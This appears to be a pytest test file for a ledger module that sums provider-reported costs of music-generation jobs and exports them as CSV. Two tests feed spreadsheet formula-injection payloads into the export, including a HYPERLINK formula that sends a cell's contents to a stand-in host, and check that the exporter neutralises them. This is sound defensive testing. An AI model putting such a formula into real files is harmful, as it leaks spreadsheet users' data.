"""The ledger: what the provider reported and nothing else, added up and written as a table."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from demotape.ledger import Entry, as_csv, by_day_and_model, spent
from demotape.models import Charged, Cost, Job, JobState, Problem, Request

NOON = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def problem(charged: Charged, request_id: str | None = None) -> Problem:
    return Problem(kind="Refused", message="No.", advice="", charged=charged, request_id=request_id)


def entry(
    *, sent_at: datetime = NOON, model: str | None = "maker/music", prompt: str = "a tune", **job: object
) -> Entry:
    options = {"model": model} if model else {}
    values: dict[str, object] = {"state": JobState.READY, "ticket": "t-1"}
    made = Job(
        id="j",
        visitor="me",
        request=Request(engine="aimlapi", prompt=prompt, length_s=20.0, options=options),
        created_at=sent_at,
        changed_at=sent_at,
        **(values | job),
    )
    return Entry(sent_at=sent_at, job=made)


@pytest.mark.parametrize(
    ("job", "words"),
    [
        ({"cost": Cost(usd=0.195, credits=390_000)}, "$0.195"),
        ({"cost": Cost(credits=390_000)}, "390,000 credits"),
        ({"cost": Cost()}, "not reported"),
        ({"cost": None}, "not reported"),
        ({"state": JobState.FAILED, "problem": problem(Charged.NO)}, "nothing"),
        ({"state": JobState.FAILED, "problem": problem(Charged.YES)}, "not reported"),
        ({"state": JobState.NEEDS_YOU, "problem": problem(Charged.UNKNOWN)}, "not reported"),
        ({"state": JobState.FAILED, "problem": problem(Charged.NO), "cost": Cost(usd=0.1)}, "$0.10"),
        ({"state": JobState.GENERATING}, "not reported"),
    ],
)
def test_a_charge_is_what_was_reported(job: dict[str, object], words: str) -> None:
    assert entry(**job).charge == words


def test_the_failed_call_is_what_support_asks_for() -> None:
    assert entry().provider_id == "t-1"
    assert entry(state=JobState.FAILED, problem=problem(Charged.NO, "r-9")).provider_id == "r-9"
    assert entry(ticket=None).provider_id == ""


def test_sums_hold_reported_amounts_and_count_the_rest() -> None:
    sums = spent(
        [
            entry(cost=Cost(usd=0.1)),
            entry(cost=Cost(usd=0.25, credits=500_000)),
            entry(cost=Cost(credits=1_000)),
            entry(cost=None),
            entry(state=JobState.FAILED, problem=problem(Charged.NO)),
        ]
    )
    assert (sums.submissions, sums.credits, sums.unreported) == (5, 1_000, 1)
    assert sums.usd == pytest.approx(0.35)


def test_a_day_ends_at_midnight_of_the_person() -> None:
    late = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    entries = [entry(sent_at=late), entry(sent_at=late - timedelta(hours=2)), entry(sent_at=late, model=None)]
    sums = by_day_and_model(entries, ZoneInfo("Europe/Berlin"))
    assert {group: amount.submissions for group, amount in sums.items()} == {
        (date(2026, 3, 2), "maker/music"): 1,
        (date(2026, 3, 1), "maker/music"): 1,
        (date(2026, 3, 2), "aimlapi"): 1,
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0=", "\u200b=", "\uff1d"])
def test_a_spreadsheet_finds_no_formula(start: str) -> None:
    evil = f'{start}HYPERLINK("http://x/?"&A1)'
    written = as_csv([entry(prompt=evil, model=evil, ticket=evil, cost=Cost(usd=0.1))])
    row = next(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert [row[name] for name in ("prompt", "model", "provider_id")] == [f"'{evil}"] * 3
    assert float(row["usd"]) == 0.1


@pytest.mark.parametrize("mark", [";", "\n", '; "', ";\t"])
def test_nor_where_cells_are_separated_by_semicolons(mark: str) -> None:
    written = as_csv([entry(prompt=f"a tune{mark}=1+1")]).decode("utf-8-sig")
    # What some countries' spreadsheets make of it: a quotation mark inside a cell is none to them.
    cells = [cell.strip(' "\t\r') for line in written.split("\n") for cell in line.split(";")]
    assert not [cell for cell in cells if cell.startswith("=")]


def test_the_table_comes_back_as_it_was() -> None:
    prompt = 'Trommeln, "Bass" 🥁\nzweite Zeile; ja'
    rows = list(csv.DictReader(io.StringIO(as_csv([entry(prompt=prompt), entry()]).decode("utf-8-sig"), newline="")))
    assert [row["prompt"] for row in rows] == [prompt, "a tune"]
    assert (rows[0]["sent_at"], rows[0]["length_s"], rows[0]["state"]) == ("2026-03-01T12:00:00+00:00", "20.0", "ready")
    assert rows[0]["usd"] == ""
